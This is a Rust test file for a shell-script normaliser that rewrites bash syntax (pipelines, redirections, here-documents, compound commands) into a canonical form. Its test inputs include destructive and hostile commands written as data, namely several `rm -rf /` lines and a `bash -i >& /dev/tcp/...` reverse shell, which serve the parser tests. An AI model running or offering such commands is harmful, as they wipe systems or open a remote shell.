// SPDX-License-Identifier: Apache-2.0 OR MIT

use super::*;

fn written(text: &str) -> String {
    prepare(text).map_or("no script".to_owned(), |prepared| prepared.text.trim_end().to_owned())
}

#[track_caller]
fn table(rows: &[(&str, &str)]) {
    for (text, wanted) in rows {
        assert_eq!(written(text), *wanted, "{text:?}");
    }
}

#[test]
fn the_end_of_a_line_ends_a_command_wherever_one_may_end() {
    table(&[
        ("ls|sort|uniq|cat\nrm -rf / >x", "ls | sort | uniq | cat; rm -rf / > x;"),
        ("echo a > b\n\\rm -rf /", "echo a > b; rm -rf /;"),
        ("a && b 2>&1\n\\rm -rf /", "a && b; rm -rf /;"),
        ("a |\n# why\nb &&\n\nc", "a | b && c;"),
        ("a \\\n b\nc", "a b; c;"),
        ("if a\nthen b\nelse c\nfi", "if a; then b; else c; fi;"),
        ("a # b; c\nd", "a; d;"),
        ("echo 'a\nb' \"c\nd\"\ne", "echo 'a\nb' \"c\nd\"; e;"),
        ("x=$(a\nb)", "x=$(a; b);"),
        ("x=(a # b\n c)", "x=(a c);"),
        ("a\r\nb\r\n", "a; b;"),
    ]);
}

#[test]
fn nothing_stands_before_a_compound_command() {
    table(&[
        ("! for x in a; do b; done", "for x in a; do b; done;"),
        ("time { a; }; time -p b", "{ a; }; time b;"),
        ("coproc S { sh -i 2>&1; }", "{ sh -i; };"),
        ("coproc { a; }; coproc b c", "{ a; }; coproc b c;"),
        ("if ! { a; }; then b; fi", "if { a; }; then b; fi;"),
        ("{ ( a ) } | ! b", "no script"),
        ("! ! a; time ! { b; }", "a; { b; };"),
    ]);
}

#[test]
fn redirections_come_last_and_in_few_forms() {
    table(&[
        ("> a b c < d e", "b c e > a < d;"),
        ("a 2>&1 >| b 3<&- c", "a c > b;"),
        ("bash -i >& /dev/tcp/h/1 0>&1", "bash -i &> /dev/tcp/h/1;"),
        ("exec 3<>f {fd}>g", "exec < f >> f > g;"),
        ("a > c <<< b", "a <<< b > c;"),
        ("{ a; } <<< b", "{ a; } < <(: <<< b);"),
        ("f() { a; } > r; f", "f() { { a; } > r; }; f;"),
        ("function f { a; }", "f() { a; };"),
        ("a 2 >f", "a 2 > f;"),
        ("a >", "no script"),
    ]);
}

#[test]
fn here_documents_become_texts() {
    table(&[
        ("python3 - <<'E'\nprint('a')\nE\nb", "python3 - <<< \"print('a')\n\"; b;"),
        ("bash <<E\n\\rm -rf /\nE", "bash <<< \"\\rm -rf /\n\";"),
        (
            "a <<E; b <<-'F' | c\n$(d\ne) \"x\" \\\" \\$y\nE\n\tf\n\tF\ng",
            "a <<< \"$(d; e) \\\"x\\\" \\\\\\\" \\$y\n\"; b <<< 'f\n' | c; g;",
        ),
        ("( a <<E )\nt\nE", "( a <<< \"t\n\" );"),
        ("a <<E\nt\\\nE\nE", "a <<< \"tE\n\";"),
        ("cat <<E", "cat <<< \"\";"),
        ("$(cat <<E)\nE", "no script"),
    ]);
}

#[test]
fn patterns_and_arithmetic_are_left_out_but_for_what_runs_in_them() {
    table(&[
        (
            "case $x in (a|b*) c;; *) ;& \"$(d)\") e & esac",
            "case $x in x) c ;; *) ;; \"$(d)\") e &  ;; esac;",
        ),
        ("(( i = $(a) ? 1 << 2 : 3 ))", "[[ -n x$(a) ]];"),
        ("[[ a =~ ^(b c|$(d))$ && $e < f ]]", "[[ -n x$(d) ]];"),
        ("for ((i=$(a); i<3; i++)) { b; }", "for ((x;x;x)); do [[ -n x$(a) ]]; b; done;"),
        ("echo $((1 + $(a))) `b \\`c\\`` $(<f) $( (d) )", "echo $((x))$(a) $(b $(c)) $( < f) $( ( d ));"),
        ("((a); b)", "( ( a ); b );"),
        ("for v in; do a; done", "for v; do a; done;"),
        ("rm !(a|b)", "rm *;"),
    ]);
}

#[test]
fn what_is_no_script_is_not_made_one() {
    for text in [
        "a ) b",
        "if",
        "if a; then; fi",
        "{ }",
        "( )",
        "'",
        "\"",
        "$(",
        "`",
        "a;;b",
        "do a",
        "f()",
        "a &; b",
        "i\\\nf a",
    ] {
        assert_eq!(written(text), "no script", "{text}");
    }
    for open in ["((", "$((", "$[", "$(", "${x:-", "\"$(", "@(", "a <(", "{ ", "if ", "[[ $(", "`", "a[$["] {
        assert_eq!(written(&open.repeat(5_001)), "no script", "{open}");
    }
}

#[test]
fn every_command_is_counted() {
    let count = |text: &str| prepare(text).map(|prepared| prepared.commands);
    assert_eq!(count("a $(b `c`) | [[ $(d) ]] && x=1 && e <<E\n$(f)\nE\n"), Some(7));
    assert_eq!(count("{ a; } <<< b"), Some(2));
}
